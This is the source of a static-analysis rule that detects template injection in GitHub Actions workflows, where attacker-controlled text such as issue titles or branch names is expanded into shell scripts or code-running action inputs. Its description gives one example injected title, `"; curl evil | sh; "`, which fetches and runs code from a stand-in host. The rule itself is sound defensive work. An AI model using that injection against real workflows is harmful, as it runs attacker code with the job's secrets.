import type { Rule } from '../../../src/model/rule.js';
import { get, isMap, str } from '../../../src/parsers/data/tree.js';
import { actionRepo, envLookup, expressionsIn, GHA_STANDARDS, HARDENING, stepEvents, stepHosts, steps, untrustedRefs, usesOf } from './workflow.js';

/**
 * Inputs of well-known actions that run their value as code (a shell command, a script, an
 * expression), by action repository (lower case): `${{ }}` expanded into them is as dangerous as in
 * `run:`. From each action's documented inputs (action.yml).
 */
const CODE_INPUTS: ReadonlyMap<string, readonly string[]> = new Map([
  ['actions/github-script', ['script']],
  ['mikefarah/yq', ['cmd']],
  ['addnab/docker-run-action', ['run']],
  ['appleboy/ssh-action', ['script']],
  ['azure/cli', ['inlinescript']],
  ['azure/powershell', ['inlinescript']],
  ['nick-fields/retry', ['command']],
  ['nick-invision/retry', ['command']],
  ['wandalen/wretry.action', ['command']],
  ['jannekem/run-python-script-action', ['script']],
  ['amadevus/pwsh-script', ['script']],
  ['cardinalby/js-eval-action', ['expression']],
]);

/** Attacker-controlled event text expanded by `${{ }}` into a shell script, a github-script body or another action input run as code. */
const rule: Rule = {
  meta: {
    id: 'iac/gha-template-injection',
    title: 'Untrusted input expanded into a workflow script',
    description:
      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`, unless text around its `${{ }}` makes that condition always true): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
    severity: 'high',
    kinds: ['github-workflow', 'github-action'],
    messages: {
      run: '`{{expression}}` expands attacker-controlled `{{context}}` straight into a `run:` script (code injection); pass it through `env:` (e.g. `env: VALUE: ${{ {{context}} }}`) and use `"$VALUE"` in the script.',
      env: '`{{expression}}` re-expands `{{variable}}`, which holds attacker-controlled `{{context}}`, into the script (code injection); read it as a shell variable (`"$VAR"`) or `process.env.VAR`, never as `${{ env.VAR }}`.',
      script: '`{{expression}}` expands attacker-controlled `{{context}}` into the `actions/github-script` code (code injection); pass it through `env:` and read `process.env.VALUE` instead.',
      matrix: '`{{expression}}` expands `{{variable}}`, a matrix value built from attacker-controlled `{{context}}`, into the script (code injection); pass it through `env:` and read it as a quoted shell variable, or build the matrix from trusted values.',
      input: '`{{expression}}` expands attacker-controlled `{{context}}` into the `{{input}}` input of `{{action}}`, which runs it as code (code injection); pass it through `env:` and read the variable inside the command instead.',
    },
    remediation:
      'Never interpolate untrusted context into code. Bind it to an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and reference the variable, double-quoted, in the script (`"$TITLE"`), or `process.env.TITLE` in github-script.',
    references: [
      `${HARDENING}#understanding-the-risk-of-script-injections`,
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
      'https://docs.zizmor.sh/audits/#template-injection',
    ],
    standards: { ...GHA_STANDARDS, cwe: ['CWE-78', 'CWE-94'] },
    equivalents: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'], actionlint: ['expression'], octoscan: ['expression-injection'], scorecard: ['Dangerous-Workflow'], semgrep: ['yaml.github-actions.security.run-shell-injection.run-shell-injection'] },
    security: true,
    since: '0.1.0',
  },
  check(ctx) {
    const text = ctx.file.text;
    for (const { wf, job } of stepHosts(ctx)) {
      for (const step of steps(job)) {
        const events = stepEvents(wf, job, step);
        const env = envLookup(text, wf, job, step, events);
        const run = get(step, 'run');
        const uses = usesOf(step);
        const targets: { node: typeof run; messageId: string; input?: string; action?: string }[] = [];
        if (run) targets.push({ node: run, messageId: 'run' });
        const action = uses ? actionRepo(uses) : undefined;
        const codeInputs = action ? CODE_INPUTS.get(action) : undefined;
        const withs = get(step, 'with');
        if (codeInputs && isMap(withs)) {
          // input names are case-insensitive
          for (const e of withs.entries) {
            const input = String(e.key.value);
            if (!codeInputs.includes(input.toLowerCase())) continue;
            targets.push(action === 'actions/github-script' ? { node: e.value, messageId: 'script' } : { node: e.value, messageId: 'input', input, action: uses!.split('@')[0] });
          }
        }
        for (const t of targets) {
          if (!t.node || str(t.node) === undefined) continue;
          for (const ex of expressionsIn(text, t.node)) {
            const bad = untrustedRefs(ex.body, env, events);
            if (!bad.length) continue;
            const expression = text.slice(ex.start, ex.end).replace(/\s+/g, ' ');
            const via = /^((env|matrix)\.\S+) \(= (.+)\)$/.exec(bad[0]);
            ctx.report({
              messageId: via ? via[2] : t.messageId,
              offsets: [ex.start, ex.end],
              data: via ? { expression, variable: via[1], context: via[3] } : { expression, context: bad[0], ...(t.input ? { input: t.input, action: t.action! } : {}) },
            });
          }
        }
      }
    }
  },
};
export default rule;
